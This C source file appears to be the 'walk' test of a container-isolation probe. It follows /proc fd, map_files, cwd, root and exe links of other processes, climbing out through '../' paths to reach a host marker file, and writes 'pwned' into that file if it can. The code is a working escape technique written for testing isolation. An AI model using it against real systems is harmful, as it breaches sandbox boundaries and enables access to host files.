/*
 * walk.c: the probe's "walk SECRET MARKER" attack. From inside, follow every link that
 * any process visible in /proc exposes (every fd and map_files entry, cwd, root, exe) and try to
 * reach the host file MARKER (an absolute host path) through it: a directory link with
 * "../" enough times to reach its file system's root, then MARKER; a file link as it is.
 * A file whose first bytes are SECRET is the marker: it is read, and written to if the
 * open allowed it. Prints "ESCAPED <link>" for the first link that led there, else
 * "BLOCKED: none of N links". The probe's own process is left out: its fds are its own.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define UP "../../../../../../../../../../../../../../../../"

static const char *secret, *marker;
static int links;

/* Open path read-write (else read-only) without blocking or taking a terminal; is it the marker? */
static int is_marker(const char *path)
{
	char buf[256];
	ssize_t n;
	int writable = 1;
	int fd = open(path, O_RDWR | O_APPEND | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);

	if (fd == -1) {
		writable = 0;
		fd = open(path, O_RDONLY | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);
	}
	if (fd == -1)
		return 0;
	n = read(fd, buf, sizeof buf - 1);
	buf[n > 0 ? n : 0] = '\0';
	if (strncmp(buf, secret, strlen(secret)) != 0) {
		close(fd);
		return 0;
	}
	if (writable && write(fd, "pwned\n", 6) != 6)
		writable = 0;
	close(fd);
	return 1;
}

/* Through one link: 1 when it led to the marker. */
static int through(const char *link)
{
	struct stat st;
	char path[4096];

	links++;
	if (stat(link, &st) == -1)
		return 0;
	if (S_ISREG(st.st_mode))
		return is_marker(link);
	if (!S_ISDIR(st.st_mode))
		return 0;
	snprintf(path, sizeof path, "%s/%s%s", link, UP, marker + 1);
	return is_marker(path);
}

/* Every entry of /proc/PID/SUB (fd, map_files): 1 when one led to the marker. */
static int through_each(const char *pid, const char *sub, char *found, size_t size)
{
	char dir[64], link[320];
	struct dirent *e;
	DIR *d;

	snprintf(dir, sizeof dir, "/proc/%s/%s", pid, sub);
	d = opendir(dir);
	if (!d)
		return 0;
	while ((e = readdir(d))) {
		if (e->d_name[0] == '.')
			continue;
		snprintf(link, sizeof link, "%s/%s", dir, e->d_name);
		if (through(link)) {
			snprintf(found, size, "%s", link);
			closedir(d);
			return 1;
		}
	}
	closedir(d);
	return 0;
}

int try_walk(char **argv)
{
	static const char *const single[] = { "cwd", "root", "exe" };
	char self[16], link[320], found[320] = "";
	struct dirent *e;
	DIR *proc = opendir("/proc");
	size_t i;

	secret = argv[0];
	marker = argv[1];
	snprintf(self, sizeof self, "%d", (int)getpid());
	while (proc && !found[0] && (e = readdir(proc))) {
		if (e->d_name[0] < '1' || e->d_name[0] > '9' || !strcmp(e->d_name, self))
			continue;
		for (i = 0; i < sizeof single / sizeof *single && !found[0]; i++) {
			snprintf(link, sizeof link, "/proc/%s/%s", e->d_name, single[i]);
			if (through(link))
				snprintf(found, sizeof found, "%s", link);
		}
		if (!found[0] && !through_each(e->d_name, "fd", found, sizeof found))
			through_each(e->d_name, "map_files", found, sizeof found);
	}
	if (proc)
		closedir(proc);
	if (found[0])
		printf("ESCAPED %s\n", found);
	else
		printf("BLOCKED: none of %d links\n", links);
	return 0;
}
